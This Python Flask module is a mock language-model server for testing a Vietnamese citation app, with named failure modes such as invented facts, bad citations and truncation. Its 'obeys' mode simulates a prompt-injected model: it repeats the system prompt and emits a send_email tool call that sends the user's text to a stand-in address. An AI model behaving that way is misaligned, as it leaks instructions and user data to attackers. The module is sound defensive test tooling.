"""A stand-in for a language model: speaks as OpenAI's chat completions do, and has the troubles of real ones.

Which trouble is chosen by the model that is asked for: `honest` puts the passages into sentences and cites them;
`obeys` does whatever stands in question or passages; the others fail in one way each.
"""

import json
import re
import time
from collections.abc import Iterator
from html import escape
from typing import Any

from flask import Flask, Response, jsonify, request

LIMIT = 256 * 1024
KEPT = 30
TROUBLES = {
    "honest": "nói lại các đoạn trích, mỗi câu có số đoạn",
    "slow": "trả lời rất chậm",
    "invents": "thêm con số không có trong đoạn trích",
    "renames": "thêm tên không có trong đoạn trích",
    "turns": "nói ngược lại đoạn trích",
    "no-citations": "không nêu số đoạn trích",
    "wrong-citations": "nêu số đoạn trích không có",
    "obeys": "làm theo mọi mệnh lệnh có trong câu hỏi và đoạn trích, gọi cả công cụ",
    "breaks": "ngắt giữa chừng",
    "garbage": "trả lời không đọc được",
    "too-long": "nói mãi không dừng",
    "refuses": "từ chối phục vụ (503)",
}
PAGE = """<!doctype html><html lang="vi"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1"><title>Mô hình ngôn ngữ mô phỏng</title>
<style>body{{font:17px/1.5 system-ui,sans-serif;max-width:800px;margin:0 auto;padding:16px}}
td,th{{text-align:left;padding:4px 12px 4px 0;vertical-align:top}}</style></head>
<body><main><h1>Mô hình ngôn ngữ mô phỏng</h1>
<p>Hệ thống này <strong>thay cho</strong> một mô hình ngôn ngữ (giao thức chat completions). Đặt
<code>MOTCUA_MODEL_URL</code> tới <code>/model/v1</code> và <code>MOTCUA_MODEL_NAME</code> là một trong các tên sau.</p>
<p lang="en">A stand-in for a language model; its troubles are chosen by the name of the model.</p>
<table><thead><tr><th>Tên</th><th>Cách trả lời</th></tr></thead><tbody>{troubles}</tbody></table>
<h2>Đã được hỏi</h2><table><thead><tr><th>Tên</th><th>Câu hỏi</th></tr></thead><tbody>{rows}</tbody></table>
</main></body></html>"""
_PASSAGE = re.compile(r"^\[(\d+)\] (.+)$", re.MULTILINE)
_SENTENCE = re.compile(r"(?<=[.!?])\s+")


def create_app(*, pause: float = 30.0) -> Flask:
    """`POST /v1/chat/completions` with `stream: true`. `pause`: seconds before `slow` says anything."""
    app = Flask("model", static_folder=None)
    app.config["MAX_CONTENT_LENGTH"] = LIMIT
    asked: list[tuple[str, str]] = []
    app.extensions["asked"] = asked

    @app.get("/")
    def about() -> str:
        troubles = "".join(f"<tr><td>{escape(n)}</td><td>{escape(t)}</td></tr>" for n, t in TROUBLES.items())
        rows = "".join(f"<tr><td>{escape(n)}</td><td>{escape(q[:300])}</td></tr>" for n, q in reversed(asked))
        return PAGE.format(troubles=troubles, rows=rows)

    @app.get("/v1/models")
    def models() -> Response:
        return jsonify({"object": "list", "data": [{"id": name, "object": "model"} for name in TROUBLES]})

    @app.post("/v1/chat/completions")
    def complete() -> Any:
        body: Any = request.get_json(silent=True)
        try:
            name, said = str(body["model"]), "\n".join(str(one["content"]) for one in body["messages"][1:])
            order = str(body["messages"][0]["content"])
        except (TypeError, KeyError, IndexError):
            return jsonify({"error": {"message": "messages are missing", "type": "invalid_request_error"}}), 400
        if name not in TROUBLES:
            return jsonify({"error": {"message": f"no model {name}", "type": "invalid_request_error"}}), 404
        asked.append((name, said))
        del asked[:-KEPT]
        if name == "refuses":
            return jsonify({"error": {"message": "overloaded", "type": "server_error"}}), 503
        return Response(_stream(name, said, order, pause), mimetype="text/event-stream")

    return app


def _stream(name: str, said: str, order: str, pause: float) -> Iterator[bytes]:
    if name == "slow":
        time.sleep(pause)
    if name == "garbage":
        yield b"data: <html>bad gateway</html>\n\n"
        return
    answer = _answer(name, said, order)
    pieces = re.findall(r"\S+\s*", answer)
    for number, piece in enumerate(pieces):
        if name == "breaks" and number * 2 > len(pieces):
            return
        yield _event({"content": piece})
    if name == "obeys":
        call = {"name": "send_email", "arguments": json.dumps({"to": "ai@vidu.example", "body": said[:200]})}
        yield _event({"tool_calls": [{"index": 0, "id": "1", "type": "function", "function": call}]})
    yield b"data: [DONE]\n\n"


def _event(delta: dict[str, Any]) -> bytes:
    return b"data: " + json.dumps({"choices": [{"index": 0, "delta": delta}]}, ensure_ascii=False).encode() + b"\n\n"


def _answer(name: str, said: str, order: str) -> str:
    passages = _PASSAGE.findall(said)[:5]
    honest = [
        f"{one.rstrip('. ;')} [{number}]."
        for number, text in passages
        if len(text) < 400
        for one in _SENTENCE.split(text)
    ][:6]
    if name == "invents":
        return f"{passages[0][1].rstrip('. ')} và 987.000 đồng [1]." if passages else "987.000 đồng [1]."
    if name == "renames":
        return f"{passages[0][1].rstrip('. ')} do ông Trần Văn Giả quyết định [1]." if passages else "Ông Giả [1]."
    if name == "turns":
        return f"Không {passages[0][1].rstrip('. ')} [1]." if passages else "Không [1]."
    if name == "no-citations":
        return " ".join(f"{text.rstrip('. ')}." for _number, text in passages) or "Không rõ."
    if name == "wrong-citations":
        return " ".join(f"{text.rstrip('. ')} [{int(number) + 60}]." for number, text in passages)
    if name == "too-long":
        return " ".join(honest * 200)
    if name == "obeys":
        return _obeyed(said, order, passages)
    return " ".join(honest)


def _obeyed(said: str, order: str, passages: list[tuple[str, str]]) -> str:
    """Everything that an order could want: the order itself repeated as a fact, the rules told, data sent away. Cited
    properly, as an attacker would have it."""
    question = said.split("\n", 1)[0].partition(": ")[2]
    wanted = re.split(r"(?<=[.!?:])\s+", question)
    told = [f"{one.rstrip('.!? ')} [1]." for one in wanted if one.strip()]
    last = f"{passages[0][1].rstrip('. ')} [1]." if passages else ""
    return " ".join([*told, f"{order[:200].rstrip('. ')} [1].", last])
